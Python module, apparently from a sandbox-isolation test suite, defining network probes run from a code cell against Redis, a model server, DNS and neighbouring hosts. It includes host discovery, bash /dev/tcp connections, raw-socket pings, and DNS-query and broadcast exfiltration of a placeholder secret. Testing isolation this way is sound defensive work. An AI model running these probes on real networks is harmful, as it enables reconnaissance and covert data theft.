"""Attacks on everything beyond the container: Redis, the model server, name servers, the machine, the world."""

from __future__ import annotations

from ..case import Allowed, Attack, Group
from . import sockets
from .toolkit import python

_NETWORK = Group.NETWORK

#: The addresses that a cell can learn: by name, from the worker's own connections, and the first of each local network.
_ADDRESSES = r"""
def addresses():
    found = {"127.0.0.1"}
    for name in ("redis", "vllm", "worker", "host.docker.internal", "example.org"):
        with contextlib.suppress(OSError):
            found.update(each[4][0] for each in socket.getaddrinfo(name, None, socket.AF_INET))
    for line in open("/proc/net/tcp").readlines()[1:]:
        found.add(socket.inet_ntoa(struct.pack("=I", int(line.split()[2].split(":")[0], 16))))
    for line in open("/proc/net/arp").readlines()[1:]:
        found.add(line.split()[0])
    for line in open("/proc/net/route").readlines()[1:]:
        network = struct.unpack("!I", struct.pack("=I", int(line.split()[1], 16)))[0]
        found.update(socket.inet_ntoa(struct.pack("!I", network + host)) for host in range(1, 6) if network)
    for line in open("/etc/hosts"):
        found.update(word for word in line.split()[:1] if re.fullmatch(r"\d+(\.\d+){3}", word))
    return sorted(found - {"0.0.0.0"})[:16]
def ask(address, port, text, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect((address, port))
        one.sendall(text)
        return one.recv(200) or f"connected to {address}"
"""

_REDIS = r"""
for name in ("redis", "redis.inside", "tasks.redis"):
    keep(name, attempt(ask, name, 6379, b"PING\r\n"))
keep("by create_connection", attempt(lambda: socket.create_connection(("redis", 6379), 2).getpeername()))
verdict()
"""

_MODEL = r"""
import http.client, urllib.request
def get(path):
    connection = http.client.HTTPConnection("vllm", 8000, timeout=3)
    connection.request("GET", path)
    return connection.getresponse().status
keep("its models", attempt(get, "/v1/models"))
keep("its health", attempt(get, "/health"))
try:
    keep("by urllib", urllib.request.urlopen("http://vllm:8000/v1/models", timeout=3).read(100))
except urllib.request.HTTPError as error:
    keep("an answer", error.code)
except OSError as error:
    refused.append(str(error))
verdict()
"""

_BY_ADDRESS = r"""
for address in addresses():
    for port, text in ((6379, b"PING\r\n"), (8000, b"GET /health HTTP/1.0\r\n\r\n"), (22, b"\n"), (80,
            b"GET / HTTP/1.0\r\n\r\n"),
                       (2375, b"GET /info HTTP/1.0\r\n\r\n")):
        keep(f"{address}:{port}", attempt(ask, address, port, text))
verdict()
"""

_BASH = r"""
got=""
known=$(awk 'NR>1 {print $3}' /proc/net/tcp | sed 's/\(..\)\(..\)\(..\)\(..\):.*/0x\4 0x\3 0x\2 0x\1/' | sort -u |
    head -5 | while read -r a b c d; do echo "$((a)).$((b)).$((c)).$((d))/6379"; done)
talk='printf "GET / HTTP/1.0\r\n\r\n" >&3 && read -r -t 2 line <&3; echo "$line"'
for place in redis/6379 vllm/8000 127.0.0.1/6379 $known; do
    text=$(timeout 3 bash -c "exec 3<>/dev/tcp/$place && $talk" 2>/dev/null)
    [ -n "$text" ] && got="$got $place: $text"
    timeout 3 bash -c "exec 3<>/dev/udp/$place && echo ping >&3" 2>/dev/null && got="$got sent to $place"
done
text=$(getent hosts redis vllm) && got="$got $text"
program='$s = IO::Socket::INET->new(PeerAddr => "redis:6379") or exit; print $s "PING\r\n"; $l = <$s>; print $l'
text=$(timeout 3 perl -MIO::Socket::INET -e "$program" 2>/dev/null)
[ -n "$text" ] && got="$got perl: $text"
[ -n "$got" ] && echo "BREACH $got" || echo HELD
"""

_NODE = r"""
const net = require("net"), http = require("http"), dgram = require("dgram"), dns = require("dns")
const got = [], step = (what, run) => new Promise(done => {
  const note = value => { if (value !== undefined) got.push(`${what}: ${value}`); done() }
  setTimeout(done, 3000)
  try { run(note, () => done()) } catch (error) { done() }
})
Promise.all([
  step("Redis", (note, fail) => { const s = net.connect(6379, "redis", () => s.write("PING\r\n"))
    s.on("data", d => note(d)); s.on("error", fail) }),
  step("the model", (note, fail) => http.get("http://vllm:8000/v1/models", r => note(r.statusCode)).on("error", fail)),
  step("a name", (note, fail) => dns.resolve4("redis", (e, a) => e ? fail() : note(a))),
  step("a datagram", (note, fail) => { const s = dgram.createSocket("udp4"); s.on("error", fail)
    s.send("x", 53, "127.0.0.11", e => { e ? fail() : note("sent"); s.close() }) }),
  step("a listener", (note, fail) => { const s = http.createServer(); s.on("error", fail)
    s.listen(8080, "0.0.0.0", () => { note(JSON.stringify(s.address())); s.close() }) }),
  step("fetch", (note, fail) => fetch("http://vllm:8000/health").then(r => note(r.status), fail)),
]).then(() => { console.log(got.length ? `BREACH ${got}` : "HELD"); process.exit() })
"""

_NAMES = r"""
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05redis\x00\x00\x01\x00\x01"
servers = {line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")} | {"127.0.0.11"}
for server in servers:
    keep(f"an answer of {server}", attempt(ask, server, 53, question, socket.AF_INET, socket.SOCK_DGRAM))
    keep(f"an answer of {server} by TCP", attempt(ask, server, 53, struct.pack("!H", len(question)) + question))
for name in ("redis", "vllm", "example.org"):
    keep(f"the address of {name}", attempt(socket.getaddrinfo, name, 80))
    keep(f"the address of {name}, from a tool", subprocess.run(["getent", "ahosts", name], capture_output=True).stdout)
verdict()
"""

_CARRIED_OUT = r"""
# What leaves needs no answer: a secret in a question for a name, or in a datagram.
label = b"the-secret-goes-here"
name = bytes([len(label)]) + label + b"\x07example\x03org\x00"
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
def send(address, port, *options):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for level, option, value in options:
            one.setsockopt(level, option, value)
        return one.sendto(question, (address, port))
for address in addresses():
    keep(f"sent to {address}", attempt(send, address, 53))
keep("sent to all", attempt(send, "255.255.255.255", 9, (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)))
keep("sent to a group", attempt(send, "224.0.0.251", 5353, (socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)))
verdict()
"""

_RAW = r"""
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~(total + (total >> 16)) & 0xFFFF
def ping(kind, family, protocol, address):
    packet = struct.pack("!BBHHH", 8 if family == socket.AF_INET else 128, 0, 0, 7, 1)
    packet = packet[:2] + struct.pack("!H", checksum(packet)) + packet[4:]
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(2)
        one.sendto(packet, (address, 0))
        return one.recv(100)
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    for address in addresses():
        keep(f"{address} answers", attempt(ping, kind, socket.AF_INET, socket.IPPROTO_ICMP, address))
    keep("::1 answers", attempt(ping, kind, socket.AF_INET6, socket.IPPROTO_ICMPV6, "::1"))
for protocol in (socket.IPPROTO_RAW, socket.IPPROTO_TCP, socket.IPPROTO_UDP, 2, 47, 89):
    keep(f"packets of protocol {protocol}", attempt(lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW,
            protocol))))
verdict()
"""

_IPV6 = r"""
for address in ("::1", "::ffff:127.0.0.1", "ff02::1", "fe80::1"):
    for port in (6379, 8000):
        keep(f"[{address}]:{port}", attempt(ask, address, port, b"PING\r\n", socket.AF_INET6))
for name in ("redis", "vllm"):
    for each in attempt(socket.getaddrinfo, name, 6379, socket.AF_INET6, socket.SOCK_STREAM) or ():
        keep(f"{name} at {each[4]}", attempt(ask, *each[4][:2], b"PING\r\n", socket.AF_INET6))
keep("a socket", attempt(lambda: str(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))))
keep("a server", attempt(lambda: str(socket.create_server(("::", 0), family=socket.AF_INET6))))
verdict()
"""

_ABSTRACT = r"""
names = {line.split()[7] for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7}
names |= {"@bystander-listener", "@/tmp/dbus-system", "@/containerd-shim/moby", "@ISCSIADM_ABSTRACT_NAMESPACE"}
for name in sorted(names):
    if not name.startswith("@"):
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        with socket.socket(socket.AF_UNIX, kind) as one:
            one.settimeout(1)
            if passes(one.connect, "\0" + name[1:]):
                keep(f"connected to {name}", attempt(one.recv, 100) or "and no answer")
            elif kind == socket.SOCK_DGRAM:
                keep(f"sent to {name}", attempt(one.sendto, b"x", "\0" + name[1:]))
verdict()
"""

_LISTENERS = r"""
import http.server
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for address in ("0.0.0.0", "127.0.0.1"):
        for port in (0, 80, 6379, 8080):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind) as one:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                if passes(one.bind, (address, port)):
                    keep("bound to", one.getsockname())
keep("a web server", attempt(lambda: http.server.HTTPServer(("", 8081),
                                                            http.server.BaseHTTPRequestHandler).server_address))
program = subprocess.Popen([sys.executable, "-m", "http.server", "8082"], stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL)
with contextlib.suppress(subprocess.TimeoutExpired):
    program.wait(3)
keep("a web server of its own", program.returncode is None)
program.kill()
verdict()
"""

_LIBRARIES = r"""
import asyncio, http.client, pandas, urllib.error, zmq
async def stream():
    reader, writer = await asyncio.wait_for(asyncio.open_connection("redis", 6379), 3)
    writer.write(b"PING\r\n")
    return await asyncio.wait_for(reader.read(50), 3)
loop = asyncio.new_event_loop()
thread = threading.Thread(target=lambda: keep("asyncio", attempt(lambda: loop.run_until_complete(stream()))))
thread.start()
thread.join()
context = zmq.Context()
with context.socket(zmq.REP) as one:
    try:
        keep("a port of ZeroMQ", one.bind_to_random_port("tcp://127.0.0.1"))
    except zmq.ZMQError as error:
        refused.append(str(error))
for url in ("http://vllm:8000/data.csv", "http://redis:6379/data.csv", "http://example.org/data.csv"):
    try:
        keep("pandas", pandas.read_csv(url).shape)
    except urllib.error.HTTPError as error:
        keep(f"an answer of {url}", error.code)
    except http.client.HTTPException as error:
        keep(f"an answer of {url}", str(error))
    except (OSError, pandas.errors.ParserError, pandas.errors.EmptyDataError, UnicodeError) as error:
        refused.append(str(error))
import duckdb
try:
    keep("duckdb", duckdb.sql("install httpfs; load httpfs; select 1").fetchall())
except duckdb.Error as error:
    refused.append(str(error)[:80])
verdict()
"""

_ALLOWED_UNIX = r"""
import os, socket, tempfile, threading
left, right = socket.socketpair()
left.sendall(b"through a pair")
assert right.recv(100) == b"through a pair"
with tempfile.TemporaryDirectory() as place:
    server = socket.socket(socket.AF_UNIX)
    server.bind(f"{place}/s")
    server.listen()
    client = socket.socket(socket.AF_UNIX)
    client.connect(f"{place}/s")
    connection, _ = server.accept()
    read_end, write_end = os.pipe()
    socket.send_fds(client, [b"x"], [write_end])
    _, (passed,), _, _ = socket.recv_fds(connection, 10, 1)
    os.write(passed, b"through a descriptor")
    assert os.read(read_end, 100) == b"through a descriptor"
own = socket.socket(socket.AF_UNIX)
own.bind("\0own-" + str(os.getpid()))
own.listen()
caller = socket.socket(socket.AF_UNIX)
caller.connect("\0own-" + str(os.getpid()))
print("WORKS")
"""

_ALLOWED_LOOPS = r"""
import asyncio, zmq
async def pair():
    server = await asyncio.start_unix_server(lambda reader, writer: writer.write(b"hello") or writer.close(),
                                             "loop.sock")
    reader, writer = await asyncio.open_unix_connection("loop.sock")
    return await reader.read()
assert await pair() == b"hello"
context = zmq.Context()
answering, asking = context.socket(zmq.REP), context.socket(zmq.REQ)
answering.bind("ipc://own.zmq")
asking.connect("ipc://own.zmq")
asking.send(b"question")
assert answering.recv() == b"question"
asking.close(0), answering.close(0)
print("WORKS")
"""

_ALLOWED_NODE = r"""
const net = require("net")
const server = net.createServer(c => c.end("hello")).listen("node.sock", () => {
  net.connect("node.sock").on("data", data => { server.close(); console.log(`${data}` === "hello" ? "WORKS" : "no") })
})
"""

_ATTACKS = (
    python(_NETWORK, "Redis by its name", _ADDRESSES + _REDIS),
    python(_NETWORK, "the model server by its name", _MODEL),
    python(
        _NETWORK, "whatever answers at the addresses that can be learnt here", _ADDRESSES + _BY_ADDRESS, timeout=240
    ),
    Attack(_NETWORK, "Redis and the model server, from bash and perl", _BASH, "shell"),
    Attack(_NETWORK, "Redis, the model server and names, from JavaScript", _NODE, "javascript"),
    python(_NETWORK, "the name server, and the names of the other containers", _ADDRESSES + _NAMES),
    python(_NETWORK, "a secret carried out in questions and datagrams", _ADDRESSES + _CARRIED_OUT),
    python(_NETWORK, "IPv6, to this host, to neighbours, to Redis", _ADDRESSES + _IPV6),
    python(_NETWORK, "raw packets and pings", _ADDRESSES + _RAW, timeout=240),
    python(_NETWORK, "listeners of this container that have no path", _ABSTRACT),
    python(_NETWORK, "a server of our own", _LISTENERS),
    python(_NETWORK, "the network by libraries that data scientists use", _LIBRARIES, timeout=120),
)
ATTACKS: tuple[Attack, ...] = (*_ATTACKS, *sockets.ATTACKS)

ALLOWED: tuple[Allowed, ...] = (
    Allowed("sockets between a cell's own processes, which pass descriptors", _ALLOWED_UNIX, _NETWORK),
    Allowed("event loops and ZeroMQ on sockets of a cell's own", _ALLOWED_LOOPS, _NETWORK),
    Allowed("a server with a path, in JavaScript", _ALLOWED_NODE, _NETWORK, "javascript"),
)
